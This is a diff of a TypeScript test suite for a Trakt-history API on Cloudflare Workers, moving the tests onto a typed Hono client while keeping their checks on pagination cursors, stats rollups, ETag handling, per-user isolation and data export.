@@ -5,7 +5,9 @@
  * streamed export (JSON, RFC 4180 CSV) and per-user isolation of every new endpoint.
  */
 import { env } from 'cloudflare:workers';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { InferRequestType, InferResponseType } from 'hono/client';
+import { afterEach, assert, beforeEach, describe, expect, it } from 'vitest';
+import type { z } from 'zod';
 import {
   type CatalogInfo,
   installSimulator,
@@ -13,10 +15,13 @@ import {
   SIM_TMDB_API_URL,
   type Simulator,
 } from '../simulator/support/harness';
+import type { HistoryClient } from '../src/client';
 import { INVALID_CURSOR } from '../src/history/cursor';
+import type { exportRowOutput } from '../src/history/schemas';
 import { runBackgroundChunk } from '../src/jobs/queue';
 import { DAY_ROLLUP_DAYS } from '../src/readmodel/stats';
-import { call, expectError, type JsonResponse, registerAndLogin } from './support/api';
+import { call, expectError, registerAndLogin } from './support/api';
+import { api, ok, read } from './support/client';
 import { meterD1 } from './support/d1-meter';
 import { deliverEnrichMessage, drainEnrichQueue, enrichQueue } from './support/enrich-queue';
 import { grid, localCell } from './support/local-time';
@@ -33,19 +38,18 @@ type Account = Parameters<typeof connectedUser>[1];
 async function syncedUser(account: Account, options: { tmdb?: boolean } = {}) {
   const user = await connectedUser(sim, account);
   if (options.tmdb !== false) {
-    const saved = await call('POST', '/users/api-keys/', {
-      token: user.access,
-      json: { service_name: 'tmdb', api_key: SIM_DEFAULT_TMDB_KEY },
-    });
-    expect(saved.status).toBe(201);
+    await ok(
+      api(user.access).users['api-keys'].$post({ json: { service_name: 'tmdb', api_key: SIM_DEFAULT_TMDB_KEY } }),
+      201,
+    );
   }
   await sync(user.access);
   return user;
 }
 
 async function sync(token: string) {
-  expect((await call('GET', '/trakt/fetch-latest-movies/', { token })).status).toBe(200);
-  expect((await call('GET', '/trakt/fetch-latest-shows/', { token })).status).toBe(200);
+  await ok(api(token).trakt['fetch-latest-movies'].$get());
+  await ok(api(token).trakt['fetch-latest-shows'].$get());
 }
 
 const SMALL: Account = {
@@ -58,22 +62,18 @@ const SMALL: Account = {
   missing_on_tmdb_fraction: 0,
 };
 
-type Item = { id: number; watched_at: string; type: 'movie' | 'episode'; [key: string]: any };
+type ExportRow = z.output<typeof exportRowOutput>;
+type HistoryQuery = InferRequestType<HistoryClient['trakt']['history']['$get']>['query'];
+type Item = InferResponseType<HistoryClient['trakt']['history']['$get']>['items'][number];
 
 /** Follows next_cursor to the end; returns every item and the number of pages. */
-async function allPages(token: string, query: string) {
+async function allPages(token: string, query: HistoryQuery) {
   const items: Item[] = [];
   let cursor: string | null = null;
   let pages = 0;
   do {
-    const res: JsonResponse = await call(
-      'GET',
-      `/trakt/history/?${query}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
-      {
-        token,
-      },
-    );
-    expect(res.status, JSON.stringify(res.body)).toBe(200);
+    const pageQuery: HistoryQuery = cursor ? { ...query, cursor } : query;
+    const res = await ok(api(token).trakt.history.$get({ query: pageQuery }));
     items.push(...res.body.items);
     cursor = res.body.next_cursor;
     pages += 1;
@@ -88,13 +88,13 @@ describe('GET /trakt/history/', () => {
     const truth = await sim.plays(user.traktUsername);
     expect(truth.length).toBeGreaterThan(15);
 
-    const first = await call('GET', '/trakt/history/', { token: user.access });
+    const first = await read(api(user.access).trakt.history.$get({ query: {} }));
     expect(first.status).toBe(200);
     expect(Object.keys(first.body)).toEqual(['items', 'next_cursor']);
     expect(first.body.items).toHaveLength(20); // default limit
     expect(typeof first.body.next_cursor).toBe('string');
 
-    const { items, pages } = await allPages(user.access, 'limit=7');
+    const { items, pages } = await allPages(user.access, { limit: '7' });
     expect(pages).toBe(Math.ceil(truth.length / 7));
     expect(items.map((i) => i.id)).toEqual(truth.map((p) => p.id));
     expect(items.map((i) => i.watched_at)).toEqual(truth.map((p) => p.watched_at));
@@ -148,7 +148,7 @@ describe('GET /trakt/history/', () => {
     expect(truthOf.get(episode.id)!.trakt_id).toBe(episode.episode.ids.trakt);
     expect(truthOf.get(movie.id)!.trakt_id).toBe(movie.movie.ids.trakt);
     // Each item carries its title's total plays (the dashboard's play count).
-    const playsOf = (traktId: number) => truth.filter((p) => p.trakt_id === traktId).length;
+    const playsOf = (traktId: number | null) => truth.filter((p) => p.trakt_id === traktId).length;
     expect(movie.movie.plays).toBe(playsOf(movie.movie.ids.trakt));
     expect(episode.episode.plays).toBe(playsOf(episode.episode.ids.trakt));
     expect(items.some((i) => (i.type === 'movie' ? i.movie.plays : i.episode.plays) > 1)).toBe(true);
@@ -157,11 +157,11 @@ describe('GET /trakt/history/', () => {
   it('filters by type, start_at/end_at (inclusive) and a movie or show trakt_id, each with cursors', async () => {
     const user = await syncedUser(SMALL);
     const truth = await sim.plays(user.traktUsername);
-    const everything = (await allPages(user.access, 'limit=100')).items;
+    const everything = (await allPages(user.access, { limit: '100' })).items;
     expect(everything).toHaveLength(truth.length);
 
-    const movies = (await allPages(user.access, 'type=movies&limit=3')).items;
-    const episodes = (await allPages(user.access, 'type=episodes&limit=4')).items;
+    const movies = (await allPages(user.access, { type: 'movies', limit: '3' })).items;
+    const episodes = (await allPages(user.access, { type: 'episodes', limit: '4' })).items;
     expect(movies.length).toBeGreaterThan(3);
     expect(episodes.length).toBeGreaterThan(4);
     expect(movies.every((i) => i.type === 'movie')).toBe(true);
@@ -174,25 +174,29 @@ describe('GET /trakt/history/', () => {
     const older = everything[everything.length - 4]!.watched_at;
     const inRange = everything.filter((i) => i.watched_at >= older && i.watched_at <= newer);
     expect(inRange.length).toBeGreaterThan(2);
-    const ranged = await allPages(user.access, `start_at=${older}&end_at=${newer}&limit=2`);
+    const ranged = await allPages(user.access, { start_at: older, end_at: newer, limit: '2' });
     expect(ranged.items.map((i) => i.id)).toEqual(inRange.map((i) => i.id));
     const shifted = new Date(Date.parse(newer)).toISOString().replace('Z', '+00:00');
-    const viaOffset = await allPages(user.access, `end_at=${encodeURIComponent(shifted)}&limit=100`);
+    const viaOffset = await allPages(user.access, { end_at: shifted, limit: '100' });
     expect(viaOffset.items.map((i) => i.id)).toEqual(everything.filter((i) => i.watched_at <= newer).map((i) => i.id));
 
-    const movieId = movies[0]!.movie.ids.trakt as number;
-    const ofMovie = (await allPages(user.access, `trakt_id=${movieId}&limit=1`)).items;
+    const firstMovie = movies[0]!;
+    assert(firstMovie.type === 'movie');
+    const movieId = firstMovie.movie.ids.trakt;
+    const ofMovie = (await allPages(user.access, { trakt_id: String(movieId), limit: '1' })).items;
     expect(ofMovie.length).toBeGreaterThan(0);
     expect(ofMovie.map((i) => i.id)).toEqual(
       everything.filter((i) => i.type === 'movie' && i.movie.ids.trakt === movieId).map((i) => i.id),
     );
-    const showId = episodes[0]!.show.ids.trakt as number;
-    const ofShow = (await allPages(user.access, `trakt_id=${showId}&limit=5`)).items;
+    const firstEpisode = episodes[0]!;
+    assert(firstEpisode.type === 'episode');
+    const showId = firstEpisode.show.ids.trakt;
+    const ofShow = (await allPages(user.access, { trakt_id: String(showId), limit: '5' })).items;
     expect(ofShow.length).toBeGreaterThan(5);
     expect(ofShow.map((i) => i.id)).toEqual(
       everything.filter((i) => i.type === 'episode' && i.show.ids.trakt === showId).map((i) => i.id),
     );
-    expect((await allPages(user.access, `type=movies&trakt_id=${showId}`)).items).toEqual([]);
+    expect((await allPages(user.access, { type: 'movies', trakt_id: String(showId) })).items).toEqual([]);
   });
 
   it.each([
@@ -212,14 +216,14 @@ describe('GET /trakt/history/', () => {
   it('rejects tampered cursors, cursors of another user and cursors for other filters with 400', async () => {
     const a = await syncedUser({ ...SMALL, seed: 'cursor-a' });
     const b = await syncedUser({ ...SMALL, seed: 'cursor-b' });
-    const page = await call('GET', '/trakt/history/?limit=2', { token: a.access });
+    const page = await read(api(a.access).trakt.history.$get({ query: { limit: '2' } }));
     const cursor = page.body.next_cursor as string;
     expect(cursor).toMatch(/^[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+$/);
     // Positive control: the cursor works for its owner with the same filters (and another limit).
-    const next = await call('GET', `/trakt/history/?limit=3&cursor=${cursor}`, { token: a.access });
+    const next = await read(api(a.access).trakt.history.$get({ query: { limit: '3', cursor: cursor } }));
     expect(next.status).toBe(200);
-    expect(next.body.items[0].id).not.toBe(page.body.items[1].id);
-    expect(next.body.items[0].watched_at <= page.body.items[1].watched_at).toBe(true);
+    expect(next.body.items[0]!.id).not.toBe(page.body.items[1]!.id);
+    expect(next.body.items[0]!.watched_at <= page.body.items[1]!.watched_at).toBe(true);
 
     const [payload, mac] = cursor.split('.') as [string, string];
     const forged = btoa(JSON.stringify(['2000-01-01T00:00:00.000Z', 1])).replace(/=+$/, '');
@@ -249,18 +253,16 @@ describe('GET /trakt/history/', () => {
 
   it('reads the same rows for a deep page as for page 1 (keyset, not offset)', async () => {
     const user = await syncedUser({ ...SMALL, movies: 120, shows: 0 });
-    const read = async (cursor?: string) =>
-      meterD1(() =>
-        call('GET', `/trakt/history/?type=movies&limit=5${cursor ? `&cursor=${cursor}` : ''}`, { token: user.access }),
+    const movies = (cursor?: string) =>
+      read(
+        api(user.access).trakt.history.$get({ query: { type: 'movies', limit: '5', ...(cursor ? { cursor } : {}) } }),
       );
-    const first = await read();
+    const first = await meterD1(() => movies());
     expect(first.result.body.items).toHaveLength(5);
     expect(first.meter.rowsRead).toBeGreaterThan(5);
     let cursor = first.result.body.next_cursor as string;
-    for (let page = 2; page < 20; page++)
-      cursor = (await call('GET', `/trakt/history/?type=movies&limit=5&cursor=${cursor}`, { token: user.access })).body
-        .next_cursor;
-    const deep = await read(cursor);
+    for (let page = 2; page < 20; page++) cursor = (await movies(cursor)).body.next_cursor as string;
+    const deep = await meterD1(() => movies(cursor));
     expect(deep.result.body.items).toHaveLength(5);
     expect(deep.meter.rowsRead).toBeLessThanOrEqual(first.meter.rowsRead + 2);
     expect(deep.meter.statements).toHaveLength(2); // freshness + page, one batch
@@ -382,7 +384,7 @@ describe('GET /trakt/stats/', () => {
     const tooOld = new Date(now - (DAY_ROLLUP_DAYS + 30) * day).toISOString().slice(0, 10);
     expect(truth.some((p) => p.watched_at.startsWith(tooOld))).toBe(true);
 
-    const res = await call('GET', '/trakt/stats/', { token: user.access });
+    const res = await read(api(user.access).trakt.stats.$get({ query: {} }));
     expect(res.status).toBe(200);
     expect(res.body.by_day).toEqual(expected);
     expect(res.body.by_day.some((d: { date: string }) => d.date === tooOld)).toBe(false);
@@ -402,26 +404,26 @@ describe('GET /trakt/stats/', () => {
     expect(expected.plays.length).toBeGreaterThan(20);
     expect(expected.top_genres.length).toBeGreaterThan(1);
 
-    const res = await call('GET', '/trakt/stats/', { token: user.access });
+    const res = await read(api(user.access).trakt.stats.$get({ query: {} }));
     expect(res.status).toBe(200);
     const { plays: _plays, ...figures } = expected;
     expect(res.body).toEqual(figures);
     expect(res.body.movies.minutes).toBeGreaterThan(0);
 
-    const berlin = (await call('GET', '/trakt/stats/?tz=Europe/Berlin', { token: user.access })).body;
+    const berlin = (await read(api(user.access).trakt.stats.$get({ query: { tz: 'Europe/Berlin' } }))).body;
     expect(berlin.time_zone).toBe('Europe/Berlin');
     expect(berlin.by_weekday_hour).toEqual(grid(expected.plays.map((p) => localCell(p.watched_at, 'Europe/Berlin'))));
     const utc = res.body.by_weekday_hour;
     // By hand: 2024-03-31 00:30Z is Sunday 01:30 CET, 01:30Z is Sunday 03:30 CEST;
     // 2024-07-01 22:30Z is Tuesday 00:30 CEST.
-    expect(berlin.by_weekday_hour[6][1]).toBeGreaterThanOrEqual(1);
-    expect(berlin.by_weekday_hour[6][3]).toBeGreaterThanOrEqual(1);
-    expect(berlin.by_weekday_hour[1][0]).toBeGreaterThanOrEqual(1);
-    expect(utc[6][0]).toBeGreaterThanOrEqual(1);
-    expect(utc[0][22]).toBeGreaterThanOrEqual(1);
-    const kolkata = (await call('GET', '/trakt/stats/?tz=Asia/Kolkata', { token: user.access })).body;
+    expect(berlin.by_weekday_hour[6]![1]).toBeGreaterThanOrEqual(1);
+    expect(berlin.by_weekday_hour[6]![3]).toBeGreaterThanOrEqual(1);
+    expect(berlin.by_weekday_hour[1]![0]).toBeGreaterThanOrEqual(1);
+    expect(utc[6]![0]).toBeGreaterThanOrEqual(1);
+    expect(utc[0]![22]).toBeGreaterThanOrEqual(1);
+    const kolkata = (await read(api(user.access).trakt.stats.$get({ query: { tz: 'Asia/Kolkata' } }))).body;
     expect(kolkata.by_weekday_hour).toEqual(grid(expected.plays.map((p) => localCell(p.watched_at, 'Asia/Kolkata'))));
-    expect(kolkata.by_weekday_hour[1][4]).toBeGreaterThanOrEqual(1); // 22:30Z + 5:30 = Tuesday 04:00
+    expect(kolkata.by_weekday_hour[1]![4]).toBeGreaterThanOrEqual(1); // 22:30Z + 5:30 = Tuesday 04:00
     const total = (g: number[][]) => g.flat().reduce((n, v) => n + v, 0);
     expect(total(berlin.by_weekday_hour)).toBe(expected.plays.length);
     // Everything but the weekday-hour grid is the same in any zone.
@@ -433,12 +435,12 @@ describe('GET /trakt/stats/', () => {
     const catalog = await sim.catalog(user.traktUsername);
     const expected = await expectedStats(user.traktUsername, catalog, false);
     const { plays: _plays, ...figures } = expected;
-    const res = await call('GET', '/trakt/stats/', { token: user.access });
+    const res = await read(api(user.access).trakt.stats.$get({ query: {} }));
     expect(res.body).toEqual(figures);
     expect(res.body.minutes_unknown_plays).toBeGreaterThan(0);
 
     const empty = await registerAndLogin();
-    expect((await call('GET', '/trakt/stats/', { token: empty.access })).body).toEqual({
+    expect((await read(api(empty.access).trakt.stats.$get({ query: {} }))).body).toEqual({
       movies: { watched: 0, plays: 0, minutes: 0 },
       episodes: { watched: 0, plays: 0, minutes: 0 },
       shows: { watched: 0 },
@@ -462,7 +464,7 @@ describe('GET /trakt/stats/', () => {
       /Unknown time zone 'Mars\/Olympus_Mons'/,
     );
     // The sync's own batches kept the rollups: the first read after it is as cheap as any other.
-    const { result, meter } = await meterD1(() => call('GET', '/trakt/stats/', { token: user.access }));
+    const { result, meter } = await meterD1(() => read(api(user.access).trakt.stats.$get({ query: {} })));
     expect(result.body.movies.plays).toBeGreaterThan(300);
     expect(meter.statements).toHaveLength(2); // freshness with the first/last play, rollups: one batch
     expect(meter.calls).toHaveLength(1);
@@ -479,7 +481,7 @@ describe('GET /trakt/stats/', () => {
     expect(meter.rowsRead).toBeGreaterThanOrEqual(rollupRows);
     expect(meter.rowsRead).toBeLessThanOrEqual(rollupRows + 16);
     expect(meter.rowsRead).toBeLessThan(result.body.movies.plays);
-    const again = await meterD1(() => call('GET', '/trakt/stats/', { token: user.access }));
+    const again = await meterD1(() => read(api(user.access).trakt.stats.$get({ query: {} })));
     expect(again.result.body).toEqual(result.body);
     expect(again.meter.rowsRead).toBe(meter.rowsRead);
   });
@@ -488,19 +490,19 @@ describe('GET /trakt/stats/', () => {
     const user = await syncedUser({ ...SMALL, seed: 'stats-late-tmdb' }, { tmdb: false });
     const catalog = await sim.catalog(user.traktUsername);
     const { plays: _unknownPlays, ...withoutTmdb } = await expectedStats(user.traktUsername, catalog, false);
-    expect((await call('GET', '/trakt/stats/', { token: user.access })).body).toEqual(withoutTmdb);
+    expect((await read(api(user.access).trakt.stats.$get({ query: {} }))).body).toEqual(withoutTmdb);
     expect(withoutTmdb.minutes_unknown_plays).toBe(withoutTmdb.movies.plays + withoutTmdb.episodes.plays);
 
     // A TMDB key arrives; the next background sync (nothing new at Trakt) asks for the backlog run.
-    await call('POST', '/users/api-keys/', {
-      token: user.access,
-      json: { service_name: 'tmdb', api_key: SIM_DEFAULT_TMDB_KEY },
-    });
-    const before = await call('GET', '/trakt/stats/', { token: user.access });
+    await ok(
+      api(user.access).users['api-keys'].$post({ json: { service_name: 'tmdb', api_key: SIM_DEFAULT_TMDB_KEY } }),
+      201,
+    );
+    const before = await read(api(user.access).trakt.stats.$get({ query: {} }));
     await runBackgroundChunk(env, user.id, { kinds: ['movies', 'shows'] });
     await drainEnrichQueue();
     const { plays: _plays, ...withTmdb } = await expectedStats(user.traktUsername, catalog, true);
-    const after = await call('GET', '/trakt/stats/', { token: user.access });
+    const after = await read(api(user.access).trakt.stats.$get({ query: {} }));
     expect(after.body).toEqual(withTmdb);
     expect(after.body.movies.minutes).toBeGreaterThan(0);
     expect(after.body.top_genres.length).toBeGreaterThan(0);
@@ -511,10 +513,10 @@ describe('GET /trakt/stats/', () => {
     const account = { ...SMALL, seed: 'stats-shared-titles' };
     const [first, second] = [await connectedUser(sim, account), await connectedUser(sim, account)];
     for (const user of [first, second]) {
-      await call('POST', '/users/api-keys/', {
-        token: user.access,
-        json: { service_name: 'tmdb', api_key: SIM_DEFAULT_TMDB_KEY },
-      });
+      await ok(
+        api(user.access).users['api-keys'].$post({ json: { service_name: 'tmdb', api_key: SIM_DEFAULT_TMDB_KEY } }),
+        201,
+      );
       // Background syncs: the plays are stored before any TMDB data, and each queues its titles.
       await runBackgroundChunk(env, user.id, { kinds: ['movies', 'shows'] });
     }
@@ -528,7 +530,7 @@ describe('GET /trakt/stats/', () => {
     const catalog = await sim.catalog(second.traktUsername);
     const { plays: _plays, ...expected } = await expectedStats(second.traktUsername, catalog, true);
     expect(expected.movies.minutes).toBeGreaterThan(0);
-    expect((await call('GET', '/trakt/stats/', { token: second.access })).body).toEqual(expected);
+    expect((await read(api(second.access).trakt.stats.$get({ query: {} }))).body).toEqual(expected);
   });
 
   it('follows removed plays and a cleared history exactly (the rollups never drift)', async () => {
@@ -541,7 +543,7 @@ describe('GET /trakt/stats/', () => {
     await sync(user.access);
     const { plays, ...expected } = await expectedStats(user.traktUsername, catalog, true);
     expect(plays.length).toBe(all.length - 2);
-    expect((await call('GET', '/trakt/stats/', { token: user.access })).body).toEqual(expected);
+    expect((await read(api(user.access).trakt.stats.$get({ query: {} }))).body).toEqual(expected);
 
     // Every rollup row equals a recount from the plays (a positive control for the triggers).
     const drift = await env.DB.prepare(
@@ -553,8 +555,8 @@ describe('GET /trakt/stats/', () => {
       .all();
     expect(drift.results).toEqual([]);
 
-    expect((await call('DELETE', '/trakt/history/', { token: user.access })).status).toBe(204);
-    const cleared = (await call('GET', '/trakt/stats/', { token: user.access })).body;
+    expect((await read(api(user.access).trakt.history.$delete())).status).toBe(204);
+    const cleared = (await read(api(user.access).trakt.stats.$get({ query: {} }))).body;
     expect(cleared).toMatchObject({
       movies: { watched: 0, plays: 0, minutes: 0 },
       episodes: { watched: 0, plays: 0, minutes: 0 },
@@ -566,7 +568,7 @@ describe('GET /trakt/stats/', () => {
       top_genres: [],
     });
     await sync(user.access);
-    expect((await call('GET', '/trakt/stats/', { token: user.access })).body).toEqual(expected);
+    expect((await read(api(user.access).trakt.stats.$get({ query: {} }))).body).toEqual(expected);
   });
 });
 
@@ -575,24 +577,23 @@ describe('GET /trakt/stats/', () => {
 describe('get-stored-movies / get-stored-shows: sort, order, q, year', () => {
   it('sorts by every key in both orders, filters by q and year, and keeps the documented defaults', async () => {
     const user = await syncedUser({ ...SMALL, movies: 25, plays_per_item: 1, rewatch_fraction: 0.4 });
-    const list = async (path: string, query: string) => {
-      const res = await call('GET', `/trakt/${path}/?${query.includes('page_size') ? '' : 'page_size=100&'}${query}`, {
-        token: user.access,
-      });
-      expect(res.status, JSON.stringify(res.body)).toBe(200);
-      return res.body;
-    };
-    const all = (await list('get-stored-movies', '')).movies as any[];
+    type ListQuery = InferRequestType<HistoryClient['trakt']['get-stored-movies']['$get']>['query'];
+    const movieList = async (query: ListQuery) =>
+      (await ok(api(user.access).trakt['get-stored-movies'].$get({ query: { page_size: '100', ...query } }))).body;
+    const showList = async (query: ListQuery) =>
+      (await ok(api(user.access).trakt['get-stored-shows'].$get({ query: { page_size: '100', ...query } }))).body;
+    const all = (await movieList({})).movies;
     expect(all).toHaveLength(25);
+    type Movie = (typeof all)[number];
     const key = {
-      last_watched: (m: any) => m.last_watched_at,
-      title: (m: any) => m.movie.title.toLowerCase(),
-      plays: (m: any) => m.plays,
-      year: (m: any) => m.movie.year,
+      last_watched: (m: Movie) => m.last_watched_at,
+      title: (m: Movie) => m.movie.title.toLowerCase(),
+      plays: (m: Movie) => m.plays,
+      year: (m: Movie) => m.movie.year,
     };
-    for (const [sort, of] of Object.entries(key)) {
-      for (const order of ['asc', 'desc']) {
-        const got = (await list('get-stored-movies', `sort=${sort}&order=${order}`)).movies.map(of);
+    for (const [sort, of] of Object.entries(key) as Array<[keyof typeof key, (m: Movie) => unknown]>) {
+      for (const order of ['asc', 'desc'] as const) {
+        const got = (await movieList({ sort, order })).movies.map(of) as Array<string | number>;
         const want = [...got].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
         if (order === 'desc') want.reverse();
         expect(got, `${sort} ${order}`).toEqual(want);
@@ -601,27 +602,27 @@ describe('get-stored-movies / get-stored-shows: sort, order, q, year', () => {
     }
     expect(new Set(all.map((m) => m.plays)).size).toBeGreaterThan(1);
     // Defaults: last_watched desc, as before.
-    expect((await list('get-stored-movies', 'sort=last_watched&order=desc')).movies).toEqual(all);
+    expect((await movieList({ sort: 'last_watched', order: 'desc' })).movies).toEqual(all);
 
-    const word = all[0].movie.title.split(' ')[1] as string;
+    const word = all[0]!.movie.title.split(' ')[1]!;
     const matching = all.filter((m) => m.movie.title.toLowerCase().includes(word.toLowerCase()));
-    const found = await list('get-stored-movies', `q=${encodeURIComponent(word.toUpperCase())}`);
+    const found = await movieList({ q: word.toUpperCase() });
     expect(found.total_items).toBe(matching.length);
-    expect(found.movies.map((m: any) => m.movie.ids.trakt)).toEqual(matching.map((m) => m.movie.ids.trakt));
-    const year = all[0].movie.year as number;
-    const ofYear = await list('get-stored-movies', `year=${year}`);
+    expect(found.movies.map((m) => m.movie.ids.trakt)).toEqual(matching.map((m) => m.movie.ids.trakt));
+    const year = all[0]!.movie.year!;
+    const ofYear = await movieList({ year: String(year) });
     expect(ofYear.total_items).toBe(all.filter((m) => m.movie.year === year).length);
-    expect(ofYear.movies.every((m: any) => m.movie.year === year)).toBe(true);
-    expect((await list('get-stored-movies', 'q=%25')).total_items).toBe(0); // a literal %, not a wildcard
-    const paged = await list('get-stored-movies', 'sort=title&order=asc&page=2&page_size=10');
+    expect(ofYear.movies.every((m) => m.movie.year === year)).toBe(true);
+    expect((await movieList({ q: '%' })).total_items).toBe(0); // a literal %, not a wildcard
+    const paged = await movieList({ sort: 'title', order: 'asc', page: '2', page_size: '10' });
     expect(paged).toMatchObject({ page: 2, page_size: 10, total_items: 25, total_pages: 3 });
 
-    const shows = (await list('get-stored-shows', 'sort=title&order=asc')).shows as any[];
+    const shows = (await showList({ sort: 'title', order: 'asc' })).shows;
     expect(shows).toHaveLength(2);
     expect(shows.map((s) => s.show.title.toLowerCase())).toEqual(shows.map((s) => s.show.title.toLowerCase()).sort());
-    const showWord = shows[1].show.title.split(' ').slice(1).join(' ');
-    const showHit = await list('get-stored-shows', `q=${encodeURIComponent(showWord.toLowerCase())}`);
-    expect(showHit.shows.map((s: any) => s.show.id)).toContain(shows[1].show.id);
+    const showWord = shows[1]!.show.title.split(' ').slice(1).join(' ');
+    const showHit = await showList({ q: showWord.toLowerCase() });
+    expect(showHit.shows.map((s) => s.show.id)).toContain(shows[1]!.show.id);
     expect(shows.some((s) => s.reset_at !== null)).toBe(true); // rewatch_fraction 0.5 of 2 shows
   });
 
@@ -640,32 +641,38 @@ describe('get-stored-movies / get-stored-shows: sort, order, q, year', () => {
 
 // ---------------------------------------------------------------------------------------------
 
-const CONDITIONAL_PATHS = (showTraktId: number) => [
-  '/trakt/history/?limit=5',
-  '/trakt/stats/',
-  '/trakt/get-stored-movies/',
-  '/trakt/get-stored-shows/?sort=title',
-  `/trakt/get-watched-seasons-episodes/?trakt_id=${showTraktId}`,
-  '/trakt/sync-status/',
-  '/trakt/export/?format=csv',
-];
+/** The conditional reads through the typed client, by the path each one reads (the assertions' label). */
+const CONDITIONAL_READS = (showTraktId: number) =>
+  Object.entries({
+    '/trakt/history/?limit=5': (c: HistoryClient) => c.trakt.history.$get({ query: { limit: '5' } }),
+    '/trakt/stats/': (c: HistoryClient) => c.trakt.stats.$get({ query: {} }),
+    '/trakt/get-stored-movies/': (c: HistoryClient) => c.trakt['get-stored-movies'].$get({ query: {} }),
+    '/trakt/get-stored-shows/?sort=title': (c: HistoryClient) =>
+      c.trakt['get-stored-shows'].$get({ query: { sort: 'title' } }),
+    [`/trakt/get-watched-seasons-episodes/?trakt_id=${showTraktId}`]: (c: HistoryClient) =>
+      c.trakt['get-watched-seasons-episodes'].$get({ query: { trakt_id: String(showTraktId) } }),
+    '/trakt/sync-status/': (c: HistoryClient) => c.trakt['sync-status'].$get(),
+    '/trakt/export/?format=csv': (c: HistoryClient) => c.trakt.export.$get({ query: { format: 'csv' } }),
+  });
+type ConditionalRead = ReturnType<typeof CONDITIONAL_READS>[number][1];
+/** One conditional read as `token`'s holder, with `If-None-Match: tag` when given. */
+const conditional = async (token: string, get: ConditionalRead, tag?: string) =>
+  read(await get(api(token, tag === undefined ? undefined : { 'If-None-Match': tag })));
 
 describe('conditional GET', () => {
   it('answers 304 after one D1 read while nothing changed, and 200 with a new tag after a sync that did', async () => {
     const user = await syncedUser({ ...SMALL, seed: 'etag' });
-    const showTraktId = (await call('GET', '/trakt/get-stored-shows/', { token: user.access })).body.shows[0].show.ids
-      .trakt as number;
+    const showTraktId = (await read(api(user.access).trakt['get-stored-shows'].$get({ query: {} }))).body.shows[0]!.show
+      .ids.trakt;
     const tags = new Map<string, string>();
-    for (const path of CONDITIONAL_PATHS(showTraktId)) {
-      const res = await call('GET', path, { token: user.access });
+    for (const [path, get] of CONDITIONAL_READS(showTraktId)) {
+      const res = await conditional(user.access, get);
       expect(res.status, path).toBe(200);
       expect(res.headers.get('Cache-Control'), path).toBe('private, no-cache');
       const tag = res.headers.get('ETag');
       expect(tag, path).toMatch(/^W\/"\d+-[0-9a-f]{24}"$/);
       tags.set(path, tag!);
-      const { result, meter } = await meterD1(() =>
-        call('GET', path, { token: user.access, headers: { 'If-None-Match': tag! } }),
-      );
+      const { result, meter } = await meterD1(() => conditional(user.access, get, tag!));
       expect(result.status, path).toBe(304);
       expect(result.body, path).toBe('');
       expect(result.headers.get('ETag'), path).toBe(tag);
@@ -675,16 +682,17 @@ describe('conditional GET', () => {
     }
     expect(new Set(tags.values()).size).toBe(tags.size); // the query is part of the tag
     // Another query of the same route: another tag, so no 304.
-    const other = await call('GET', '/trakt/history/?limit=6', {
-      token: user.access,
-      headers: { 'If-None-Match': tags.get('/trakt/history/?limit=5')! },
-    });
+    const other = await conditional(
+      user.access,
+      (c) => c.trakt.history.$get({ query: { limit: '6' } }),
+      tags.get('/trakt/history/?limit=5'),
+    );
     expect(other.status).toBe(200);
 
     // A no-op sync changes nothing but sync-status.
     await sync(user.access);
-    for (const path of CONDITIONAL_PATHS(showTraktId)) {
-      const res = await call('GET', path, { token: user.access, headers: { 'If-None-Match': tags.get(path)! } });
+    for (const [path, get] of CONDITIONAL_READS(showTraktId)) {
+      const res = await conditional(user.access, get, tags.get(path)!);
       expect(res.status, path).toBe(path.startsWith('/trakt/sync-status') ? 200 : 304);
     }
 
@@ -692,8 +700,8 @@ describe('conditional GET', () => {
     const catalog = await sim.catalog(user.traktUsername);
     await sim.addPlay(user.traktUsername, { type: 'movie', trakt_id: catalog.movies[0]!.trakt });
     await sync(user.access);
-    for (const path of CONDITIONAL_PATHS(showTraktId)) {
-      const res = await call('GET', path, { token: user.access, headers: { 'If-None-Match': tags.get(path)! } });
+    for (const [path, get] of CONDITIONAL_READS(showTraktId)) {
+      const res = await conditional(user.access, get, tags.get(path)!);
       expect(res.status, path).toBe(200);
       expect(res.headers.get('ETag'), path).not.toBe(tags.get(path));
     }
@@ -702,11 +710,9 @@ describe('conditional GET', () => {
   it("never answers 304 to another user's tag", async () => {
     const a = await syncedUser({ ...SMALL, seed: 'etag-a' });
     const b = await registerAndLogin();
-    const tag = (await call('GET', '/trakt/stats/', { token: a.access })).headers.get('ETag')!;
+    const tag = (await read(api(a.access).trakt.stats.$get({ query: {} }))).headers.get('ETag')!;
     expect(tag).toBeTruthy();
-    expect((await call('GET', '/trakt/stats/', { token: b.access, headers: { 'If-None-Match': tag } })).status).toBe(
-      200,
-    );
+    expect((await conditional(b.access, (c) => c.trakt.stats.$get({ query: {} }), tag)).status).toBe(200);
   });
 });
 
@@ -768,7 +774,7 @@ describe('GET /trakt/export/', () => {
     await sync(user.access);
     const truth = await sim.plays(user.traktUsername);
 
-    const csv = await call('GET', '/trakt/export/?format=csv', { token: user.access });
+    const csv = await read(api(user.access).trakt.export.$get({ query: { format: 'csv' } }));
     expect(csv.status).toBe(200);
     expect(csv.headers.get('Content-Type')).toMatch(/^text\/csv/);
     expect(csv.headers.get('Content-Disposition')).toBe('attachment; filename="trakt-history.csv"');
@@ -794,20 +800,63 @@ describe('GET /trakt/export/', () => {
       episode: expect.stringMatching(/^\d+$/),
     });
 
-    const json = await call('GET', '/trakt/export/?format=json', { token: user.access });
+    const json = await read(api(user.access).trakt.export.$get({ query: { format: 'json' } }));
     expect(json.headers.get('Content-Disposition')).toBe('attachment; filename="trakt-history.json"');
-    expect(json.body).toHaveLength(truth.length);
-    expect(Object.keys(json.body[0])).toEqual(COLUMNS);
-    expect(json.body.find((r: any) => r.title === nasty)).toMatchObject({ type: 'movie', season: null });
-    expect(json.body.map((r: any) => r.watched_at)).toEqual(truth.map((p) => p.watched_at));
+    const exported = json.body as ExportRow[]; // a stream: its rows are typed by the contract's row schema
+    expect(exported).toHaveLength(truth.length);
+    expect(Object.keys(exported[0]!)).toEqual(COLUMNS);
+    expect(exported.find((r) => r.title === nasty)).toMatchObject({ type: 'movie', season: null });
